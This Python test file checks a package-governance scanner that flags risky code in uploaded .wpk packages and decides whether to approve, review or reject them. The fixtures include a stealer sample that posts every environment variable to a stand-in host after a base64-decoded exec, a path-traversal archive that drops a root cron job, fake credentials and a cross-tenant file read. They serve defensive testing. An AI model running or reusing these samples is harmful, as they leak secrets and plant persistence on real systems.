"""scan_path on a .wpk, a directory and a single file: the DESIGN 3.6 report, decisions and policies."""

from __future__ import annotations

from pathlib import Path

import pytest

from governance import ScanSettings, generate_keypair, scan_bytes, scan_path, sign
from tests.governance.conftest import CLEAN_STEP, MANIFEST, build_zip

EXEC_B64 = 'import base64\n\n\nexec(\n    base64.b64decode(\n        "cHJpbnQoMSk="\n    )\n)\n'
STEALER = """\
import base64, json, os, requests
exec(base64.b64decode("cHJpbnQoMSk="))
requests.post("https://collector.example.org/e", data=json.dumps(dict(os.environ)), timeout=3)
"""


def rules(report) -> set[str]:
    return {f.rule for f in report.findings}


def test_the_report_has_exactly_the_design_shape(make_wpk):
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": CLEAN_STEP}))
    document = report.to_dict()
    assert {"target", "sha256", "risk_score", "decision", "signature", "findings", "policies"} <= set(
        document
    )
    assert document["target"] == "pkg-1.0.0.wpk" and len(document["sha256"]) == 64
    assert set(document["signature"]) >= {"status", "key_id"}
    assert [p["id"] for p in document["policies"]] == ["P-1", "P-2", "P-3", "P-4", "P-5", "P-6"]
    assert set(document["policies"][0]) == {"id", "name", "status", "finding_rules"}
    for finding in document["findings"]:
        assert set(finding) == {"rule", "category", "severity", "confidence", "file", "line", "message",
                                "recommendation"}  # fmt: skip


def test_a_clean_package_is_approved_without_a_human(make_wpk):
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": CLEAN_STEP}))
    assert report.decision == "approve", report.to_dict()
    assert all(p.status != "fail" for p in report.policies)


def test_a_file_with_a_base64_decoded_exec_is_flagged_on_the_line_where_the_statement_starts(tmp_path: Path):
    path = tmp_path / "post.py"
    path.write_text(EXEC_B64)
    report = scan_path(path)
    hits = [f for f in report.findings if f.rule == "exec-base64"]
    assert [(f.file, f.line, f.category) for f in hits] == [("post.py", 4, "obfuscation")]


def test_a_directory_without_a_manifest_is_scanned_and_the_manifest_reported_missing(tmp_path: Path):
    (tmp_path / "steps").mkdir()
    (tmp_path / "steps" / "run.py").write_text(EXEC_B64)
    (tmp_path / "steps" / "__pycache__").mkdir()
    (tmp_path / "steps" / "__pycache__" / "run.cpython-311.pyc").write_bytes(b"\x00" * 10)
    report = scan_path(tmp_path)
    assert {"exec-base64", "manifest-missing"} <= rules(report)
    assert "bundled-binary" not in rules(report)  # local build output is not package content
    assert report.files_scanned == 1


def test_a_stealer_package_with_corroborated_threats_is_rejected(make_wpk):
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": STEALER}))
    assert report.decision == "reject"
    assert {"exec-base64", "exfiltrate-sensitive-data"} <= rules(report)


def test_a_single_strong_signal_goes_to_a_human_not_to_auto_reject(tmp_path: Path):
    path = tmp_path / "one.py"
    path.write_text(EXEC_B64)
    report = scan_path(path)
    assert report.decision == "review"
    assert report.risk_score < ScanSettings().reject_threshold


def test_capabilities_alone_stay_below_review(tmp_path: Path):
    path = tmp_path / "tool.py"
    path.write_text(
        'import subprocess, requests\nsubprocess.run(["git", "status"])\nrequests.get("https://api.github.com")\n'
    )
    report = scan_path(path)
    assert report.decision == "approve" and report.risk_score < ScanSettings().review_threshold
    assert {"process-spawn", "network-access"} <= rules(report)


def test_undeclared_capabilities_fail_p3_and_go_to_review(make_wpk):
    step = (
        CLEAN_STEP
        + '\n\ndef extra():\n    import subprocess\n    subprocess.run(["ls"])\n    requests.get("https://api.other.example.com", timeout=5)\n'
    )
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": step}))
    assert {"undeclared-subprocess", "undeclared-network-host"} <= rules(report)
    p3 = next(p for p in report.policies if p.id == "P-3")
    assert p3.status == "fail" and "undeclared-subprocess" in p3.finding_rules
    assert report.decision == "review"


def test_personal_data_in_logs_fails_p1(make_wpk):
    step = CLEAN_STEP + '\n\ndef greet(user):\n    email = user["email"]\n    log.info("hello %s", email)\n'
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": step}))
    assert "pii-in-logs" in rules(report)
    assert next(p for p in report.policies if p.id == "P-1").status == "fail"


def test_budget_over_the_platform_limit_and_missing_health_check_fail_p6_and_p4(make_wpk):
    manifest = MANIFEST.replace("max_runtime_s = 300", "max_runtime_s = 86400").replace(
        "health_check = true", "health_check = false"
    )
    report = scan_path(make_wpk({"wpk.toml": manifest, "steps/post.py": CLEAN_STEP}))
    assert {"budget-over-limit", "missing-health-check"} <= rules(report)
    status = {p.id: p.status for p in report.policies}
    assert status["P-6"] == "fail" and status["P-4"] == "warn"


def test_reading_another_tenants_files_fails_p5(make_wpk):
    step = CLEAN_STEP + '\n\ndef peek():\n    return open("/data/tenants/ten_globex/usage.csv").read()\n'
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": step}))
    assert "host-path-access" in rules(report)
    assert next(p for p in report.policies if p.id == "P-5").status == "fail"


def test_a_valid_signature_is_recorded_and_an_invalid_one_rejects(make_wpk):
    path = make_wpk({"wpk.toml": MANIFEST, "steps/post.py": CLEAN_STEP})
    pair = generate_keypair()
    signature = sign(path.read_bytes(), pair.private_key_pem)
    good = scan_path(path, signature=signature, public_key=pair.public_key_pem)
    assert good.signature.status == "valid" and good.signature.key_id == pair.key_id
    assert good.decision == "approve"
    bad = scan_path(path, signature=signature, public_key=generate_keypair().public_key_pem)
    assert bad.decision == "reject" and "signature-invalid" in rules(bad)
    assert next(p for p in bad.policies if p.id == "P-2").status == "fail"


def test_a_hostile_archive_is_rejected_with_the_reason():
    report = scan_bytes(build_zip({"../../etc/cron.d/x": "* * * * * root sh"}), "evil.wpk")
    assert report.decision == "reject"
    assert report.findings[0].rule == "archive-rejected" and "path_traversal" in report.findings[0].message


def test_a_wpk_without_a_manifest_needs_review(make_wpk):
    report = scan_path(make_wpk({"steps/post.py": CLEAN_STEP}))
    assert report.decision == "review" and "manifest-missing" in rules(report)


def test_compiled_files_in_a_package_are_findings(make_wpk):
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.pyc": b"\xa7\r\r\n\x00\x00\x00\x00"}))
    assert "bundled-binary" in rules(report)


def test_source_that_does_not_parse_cannot_hide(tmp_path: Path):
    path = tmp_path / "broken.py"
    path.write_text("def f(:\n    pass\n")
    assert "unparsable-source" in rules(scan_path(path))


@pytest.mark.parametrize("use_detect_secrets", [True, False])
def test_known_token_formats_are_found_with_or_without_detect_secrets(
    tmp_path: Path, use_detect_secrets: bool
):
    path = tmp_path / "config.py"
    path.write_text('AWS = "AKIAJ7Q2ZP4WXRLM6N3B"\n')
    report = scan_path(path, settings=ScanSettings(use_detect_secrets=use_detect_secrets))
    assert [(f.rule, f.line) for f in report.findings if f.category == "secrets"] == [("hardcoded-secret", 1)]


def test_an_author_comment_cannot_silence_a_secret(tmp_path: Path):
    path = tmp_path / "config.py"
    path.write_text('db_password = "Zq7!kP2#vL9m"  # pragma: allowlist secret  # nosec\n')
    assert "hardcoded-secret" in rules(scan_path(path))


def test_reading_an_undeclared_environment_variable_is_a_p5_warning(make_wpk):
    step = CLEAN_STEP + '\n\ndef home():\n    return os.environ.get("AWS_PROFILE")\n'
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": step}))
    [finding] = [f for f in report.findings if f.rule == "undeclared-env-read"]
    line = step.splitlines().index('    return os.environ.get("AWS_PROFILE")') + 1
    assert (finding.file, finding.line, finding.severity) == ("steps/post.py", line, "low")
    assert next(p for p in report.policies if p.id == "P-5").status == "warn"
    assert report.decision == "approve"


def test_personal_data_fields_the_manifest_does_not_declare_are_a_p1_warning(make_wpk):
    step = CLEAN_STEP + '\n\ndef contact(user):\n    return user["phone_number"]\n'
    report = scan_path(make_wpk({"wpk.toml": MANIFEST, "steps/post.py": step}))
    [finding] = [f for f in report.findings if f.rule == "undeclared-pii-field"]
    assert finding.message.endswith("phone_number") and finding.severity == "low"
    assert next(p for p in report.policies if p.id == "P-1").status == "warn"
